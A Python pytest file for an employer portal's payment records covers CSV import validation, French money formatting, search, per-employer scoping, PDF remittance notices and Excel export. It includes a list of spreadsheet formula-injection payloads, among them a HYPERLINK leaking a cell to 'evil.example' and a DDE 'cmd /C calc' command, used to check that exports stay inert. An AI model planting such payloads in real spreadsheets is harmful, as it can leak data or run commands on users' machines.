"""Règlements: CSV import (all or nothing), search, months and totals in Decimal, Excel, avis."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlmodel import Session, select

from portal_app.domain.core.money import euros, french_number, parse_decimal
from portal_app.domain.employer import avis, employer_documents, onboarding, reglement_import, reglements
from portal_app.domain.employer.reglements import Filters, Line
from portal_app.domain.employer.reglements_xlsx import build_workbook, file_name
from portal_app.models import EmployerDocument, Reglement

SIRET_A = "73282932000074"
SIRET_B = "44202128000015"
HEADER = "siret;date;dossier;nom;prenom;formation;reglement;heures;debut;fin;montant"
GOOD = [
    f"{SIRET_A};05/10/2019;TP-2019-001;DUPONT;Marie;CAP Boulanger;803455;151,67;01/09/2019;30/09/2019;5 529,88",
    f"{SIRET_A};07/11/2019;TP-2019-001;DUPONT;Marie;CAP Boulanger;803512;151,67;01/10/2019;31/10/2019;5 529,88",
    f"{SIRET_A};07/11/2019;TP-2019-002;BENALI;Karim;BTS Comptabilité;803513;140,00;01/10/2019;31/10/2019;3 102,50",
    f"{SIRET_B};07/11/2019;TP-2019-900;LEROY;Sophie;Titre pro;803514;10;01/10/2019;31/10/2019;100.10",
]


def csv_bytes(*lines: str, encoding="utf-8") -> bytes:
    return ("\n".join([HEADER, *lines]) + "\n").encode(encoding)


@pytest.fixture
def two_employers(temp_db, fast_hashing):
    ids = []
    for name, siret, email in (("Boulangerie Dupont", SIRET_A, "a@exemple.fr"), ("Autre SA", SIRET_B, "b@exemple.fr")):
        assert onboarding.create_employer(name, siret, email).errors == {}
    with Session(temp_db) as s:
        from portal_app.models import EmployerAccount

        for siret in (SIRET_A, SIRET_B):
            ids.append(s.exec(select(EmployerAccount).where(EmployerAccount.siret == siret)).one().user_id)
    return temp_db, ids[0], ids[1]


def count(engine, model=Reglement) -> int:
    with Session(engine) as s:
        return len(s.exec(select(model)).all())


# ---------------------------------------------------------------- money


def test_french_money():
    assert euros(Decimal("5529.88")) == "5\u00a0529,88\u00a0€"
    assert euros(Decimal("0.5")) == "0,50\u00a0€"
    assert euros(Decimal("1234567.1")) == "1\u00a0234\u00a0567,10\u00a0€"
    assert french_number(Decimal("151.67")) == "151,67"
    assert parse_decimal("5 529,88") == Decimal("5529.88")
    assert parse_decimal("5\u202f529,88") == Decimal("5529.88")
    assert parse_decimal("100.1") == Decimal("100.1")
    for bad in ("", "abc", "1,234,5", "12,345", "1.2.3", "1e3"):
        assert parse_decimal(bad) is None


# ---------------------------------------------------------------- import


def test_good_file_imports_every_line_with_its_avis(two_employers):
    engine, a, b = two_employers
    report = reglement_import.import_reglements(csv_bytes(*GOOD), on_created=avis.file_avis_de_virement)
    assert report.ok and report.imported == 4
    with Session(engine) as s:
        row = s.exec(select(Reglement).where(Reglement.number == "803455")).one()
    assert row.employer_id == a
    assert (row.amount_cents, row.hours_centi) == (552988, 15167)
    assert row.paid_on == date(2019, 10, 5) and row.period_end == date(2019, 9, 30)
    # One avis de virement per règlement, filed on its dossier by the agency.
    with Session(engine) as s:
        filed = s.exec(select(EmployerDocument).where(EmployerDocument.reglement_id == row.id)).one()
    assert (filed.category, filed.filed_by, filed.dossier_number, filed.kind) == (
        "avis_virement",
        "agency",
        "TP-2019-001",
        "pdf",
    )
    pdf = PdfReader(io.BytesIO(employer_documents.read_file(filed))).pages[0].extract_text()
    for expected in (
        "Avis de virement",
        "803455",
        euros(Decimal("5529.88")),
        "DUPONT Marie",
        "du 01/09/2019 au 30/09/2019",
        SIRET_A,
    ):
        assert expected in pdf


def test_windows_1252_and_comma_separated_files(two_employers):
    engine, _, _ = two_employers
    line = f'{SIRET_A},2019-10-05,TP-1,DUPONT,Hélène,Formation,900001,"151,67",2019-09-01,2019-09-30,"1 000,00"'
    report = reglement_import.import_reglements((HEADER.replace(";", ",") + "\n" + line + "\n").encode("cp1252"))
    assert report.ok, report.lines()
    with Session(engine) as s:
        assert s.exec(select(Reglement)).one().beneficiary_first_name == "Hélène"


BAD_LINES = {
    "siret": f"{SIRET_A[:-1]}5;05/10/2019;TP-1;X;Y;Z;900001;1;01/09/2019;30/09/2019;1",
    "unknown employer": "80123456700015;05/10/2019;TP-1;X;Y;Z;900001;1;01/09/2019;30/09/2019;1",
    "date": f"{SIRET_A};31/02/2019;TP-1;X;Y;Z;900001;1;01/09/2019;30/09/2019;1",
    "period order": f"{SIRET_A};05/10/2019;TP-1;X;Y;Z;900001;1;30/09/2019;01/09/2019;1",
    "dossier": f"{SIRET_A};05/10/2019;;X;Y;Z;900001;1;01/09/2019;30/09/2019;1",
    "surname": f"{SIRET_A};05/10/2019;TP-1;;Y;Z;900001;1;01/09/2019;30/09/2019;1",
    "first name": f"{SIRET_A};05/10/2019;TP-1;X;;Z;900001;1;01/09/2019;30/09/2019;1",
    "formation": f"{SIRET_A};05/10/2019;TP-1;X;Y;;900001;1;01/09/2019;30/09/2019;1",
    "number": f"{SIRET_A};05/10/2019;TP-1;X;Y;Z;90-0001;1;01/09/2019;30/09/2019;1",
    "hours": f"{SIRET_A};05/10/2019;TP-1;X;Y;Z;900001;beaucoup;01/09/2019;30/09/2019;1",
    "amount float-like": f"{SIRET_A};05/10/2019;TP-1;X;Y;Z;900001;1;01/09/2019;30/09/2019;12,345",
    "negative amount": f"{SIRET_A};05/10/2019;TP-1;X;Y;Z;900001;1;01/09/2019;30/09/2019;-5",
    "columns": f"{SIRET_A};05/10/2019;TP-1;X;Y;Z;900001;1;01/09/2019;30/09/2019",
    "duplicate in file": GOOD[0].replace("TP-2019-001", "TP-9"),
}


@pytest.mark.parametrize("kind", sorted(BAD_LINES))
def test_one_bad_line_and_nothing_is_imported(two_employers, kind):
    engine, _, _ = two_employers
    lines = [GOOD[0], BAD_LINES[kind], GOOD[2]]
    report = reglement_import.import_reglements(csv_bytes(*lines), on_created=avis.file_avis_de_virement)
    assert not report.ok
    assert [item.line for item in report.rejected] == [3]
    assert report.lines()[0].startswith("Ligne 3 : ")
    assert count(engine) == 0
    assert count(engine, EmployerDocument) == 0


def test_already_imported_number_is_rejected(two_employers):
    engine, _, _ = two_employers
    assert reglement_import.import_reglements(csv_bytes(GOOD[0])).ok
    report = reglement_import.import_reglements(csv_bytes(GOOD[1], GOOD[0]))
    assert [item.line for item in report.rejected] == [3]
    assert "déjà importé" in report.lines()[0]
    assert count(engine) == 1


def test_every_bad_line_is_reported_at_once(two_employers):
    _, _, _ = two_employers
    report = reglement_import.import_reglements(csv_bytes(BAD_LINES["date"], GOOD[0], BAD_LINES["unknown employer"]))
    assert [item.line for item in report.rejected] == [2, 4]


@pytest.mark.parametrize(
    "content",
    [b"", b"siret;date\n1;2\n", (HEADER + "\n").encode()],
)
def test_file_level_errors(two_employers, content):
    report = reglement_import.import_reglements(content)
    assert report.file_error and not report.ok


# ---------------------------------------------------------------- search, months, totals


def test_search_groups_by_month_with_decimal_totals(two_employers):
    engine, a, b = two_employers
    assert reglement_import.import_reglements(csv_bytes(*GOOD)).ok
    lines = reglements.search(a)
    assert [line.number for line in lines] == ["803513", "803512", "803455"]
    groups = reglements.group_by_month(lines)
    assert [g.label for g in groups] == ["novembre 2019", "octobre 2019"]
    assert groups[0].total == Decimal("8632.38") and isinstance(groups[0].total, Decimal)
    assert groups[1].total == Decimal("5529.88")
    assert reglements.total(lines) == Decimal("14162.26")
    # The other employer sees only its own.
    assert [line.number for line in reglements.search(b)] == ["803514"]


def test_search_filters(two_employers):
    _, a, _ = two_employers
    assert reglement_import.import_reglements(csv_bytes(*GOOD)).ok
    only_oct = reglements.search(a, Filters(start=date(2019, 10, 1), end=date(2019, 10, 31)))
    assert [line.number for line in only_oct] == ["803455"]
    assert [line.number for line in reglements.search(a, Filters(dossier="tp-2019-002"))] == ["803513"]
    assert [line.number for line in reglements.search(a, Filters(number="3455"))] == ["803455"]
    assert reglements.search(a, Filters(number="803514")) == []  # another employer's
    assert reglements.search(a, Filters(dossier="100%")) == []


def test_parse_filters():
    filters, errors = reglements.parse_filters({"start": "2019-10-01", "end": "2019-09-01", "unpointed": "on"})
    assert "end" in errors
    filters, errors = reglements.parse_filters({"start": "pas une date"})
    assert "start" in errors
    filters, errors = reglements.parse_filters({"start": "2019-09-01", "dossier": "  TP-1 ", "unpointed": True})
    assert errors == {} and filters == Filters(start=date(2019, 9, 1), dossier="TP-1", unpointed_only=True)


def test_pointing_is_kept_and_scoped(two_employers):
    _, a, b = two_employers
    assert reglement_import.import_reglements(csv_bytes(*GOOD)).ok
    line = reglements.search(a, Filters(number="803455"))[0]
    assert not reglements.set_pointed(b, line.id, True)  # not b's
    assert reglements.set_pointed(a, line.id, True)
    assert reglements.search(a, Filters(number="803455"))[0].pointed
    assert [x.number for x in reglements.search(a, Filters(unpointed_only=True))] == ["803513", "803512"]
    assert reglements.set_pointed(a, line.id, False)
    assert not reglements.search(a, Filters(number="803455"))[0].pointed


def test_dossiers_come_from_reglements(two_employers):
    _, a, b = two_employers
    assert reglement_import.import_reglements(csv_bytes(*GOOD)).ok
    assert [(d.number, d.beneficiary) for d in reglements.dossiers_of(a)] == [
        ("TP-2019-002", "BENALI Karim"),
        ("TP-2019-001", "DUPONT Marie"),
    ]
    assert [d.number for d in reglements.dossiers_of(a, "marie dupont")] == ["TP-2019-001"]
    assert [d.number for d in reglements.dossiers_of(a, "benali")] == ["TP-2019-002"]
    assert reglements.dossiers_of(a, "leroy") == []
    assert reglements.dossier_of(b, "TP-2019-001") is None


# ---------------------------------------------------------------- Excel


def _lines() -> list[Line]:
    def line(i, paid, amount, hours="151.67", pointed=False):
        return Line(
            i,
            str(800000 + i),
            paid,
            "TP-1",
            "DUPONT Marie",
            "CAP",
            Decimal(hours),
            date(2019, 9, 1),
            date(2019, 9, 30),
            Decimal(amount),
            pointed,
        )

    return [
        line(1, date(2019, 10, 5), "5529.88", pointed=True),
        line(2, date(2019, 11, 7), "0.10"),
        line(3, date(2019, 11, 8), "0.20"),
    ]


def test_excel_read_back():
    data = build_workbook(_lines(), "Boulangerie Dupont")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].value == "Date du règlement" and sheet["I1"].value == "Montant"
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # November first (newest), its total, then October, its total, then the grand total.
    assert [row[4] for row in rows] == ["800003", "800002", None, "800001", None, None]
    first = rows[0]
    assert isinstance(first[0], datetime) and first[0].date() == date(2019, 11, 8)
    assert isinstance(first[6], datetime) and isinstance(first[7], datetime)
    assert isinstance(first[8], (int, float)) and not isinstance(first[8], bool)
    assert Decimal(str(first[5])) == Decimal("151.67")
    assert rows[2][0] == "Total novembre 2019" and Decimal(str(rows[2][8])) == Decimal("0.30")
    assert rows[4][0] == "Total octobre 2019" and Decimal(str(rows[4][8])) == Decimal("5529.88")
    assert rows[5][0] == "Total général" and Decimal(str(rows[5][8])) == Decimal("5530.18")
    assert rows[3][9] == "oui" and rows[0][9] == "non"
    assert sheet["I2"].number_format.endswith('"€"') and "0.00" in sheet["I2"].number_format
    assert sheet["A2"].number_format == "DD/MM/YYYY"
    assert sheet.column_dimensions["C"].width >= len("DUPONT Marie")
    assert sheet.column_dimensions["A"].width >= len("Total novembre 2019")


def test_excel_file_name_carries_the_period():
    lines = _lines()
    assert file_name(lines, date(2019, 9, 1), date(2019, 12, 31)) == "reglements_2019-09-01_au_2019-12-31.xlsx"
    assert file_name(lines, None, None) == "reglements_2019-10-05_au_2019-11-08.xlsx"
    assert file_name([], None, None) == "reglements.xlsx"


def test_empty_excel_has_its_header():
    sheet = load_workbook(io.BytesIO(build_workbook([]))).active
    assert sheet.max_row == 1


# Text that a spreadsheet would run as a formula (or a DDE command) if written as one.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    '=WEBSERVICE("http://evil.example")',
    "\t=1",
    "\r=1",
    "=1\x07",  # a control character openpyxl would refuse outright
]


def _check_text_cells(data: bytes) -> None:
    sheet = load_workbook(io.BytesIO(data)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_imported_formulas_are_exported_as_plain_text(two_employers):
    _, a, _ = two_employers
    quoted = ['"' + text.replace('"', '""') + '"' for text in FORMULAS[:5]]
    lines = [
        f"{SIRET_A};0{i + 1}/10/2019;TP-{i};{name};{name};{name};90000{i};10;01/09/2019;30/09/2019;1 234,5{i}"
        for i, name in enumerate(quoted)
    ]
    report = reglement_import.import_reglements(csv_bytes(*lines))
    assert report.ok, report.lines()
    found = reglements.search(a)
    # The stored data is what was imported: the export alone makes it harmless.
    assert sorted(line.formation for line in found) == sorted(FORMULAS[:5])
    data = build_workbook(found)
    sheet = load_workbook(io.BytesIO(data)).active
    rows = [row for row in sheet.iter_rows(min_row=2) if isinstance(row[0].value, datetime)]
    assert len(rows) == 5
    for row in rows:
        assert row[3].value in FORMULAS and row[3].data_type == "s"
        assert row[2].value.upper() == f"{row[3].value} {row[3].value}".upper() and row[2].data_type == "s"
        # Amounts and hours stay numbers, dates stay dates.
        assert isinstance(row[8].value, float) and row[8].data_type == "n"
        assert isinstance(row[5].value, (int, float)) and row[5].data_type == "n"
        assert all(isinstance(row[i].value, datetime) for i in (0, 6, 7))
    _check_text_cells(data)


def test_every_text_cell_of_the_export_is_text():
    base = _lines()[0]
    lines = [
        Line(
            i, text, base.paid_on, text, text, text, base.hours, base.period_start, base.period_end, base.amount, False
        )
        for i, text in enumerate(FORMULAS)
    ]
    data = build_workbook(lines)
    _check_text_cells(data)
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, max_row=len(FORMULAS) + 1))
    # Dossier, beneficiary, training and number: the original text, a control character shown as "?"
    # (and a CR read back as LF, as any XML parser reads it).
    shown = sorted(text.replace("\x07", "?").replace("\r", "\n") for text in FORMULAS)
    assert sorted(row[1].value for row in rows) == shown
    for row in rows:
        assert row[1].value == row[2].value == row[3].value == row[4].value
        assert isinstance(row[0].value, datetime) and isinstance(row[8].value, float)
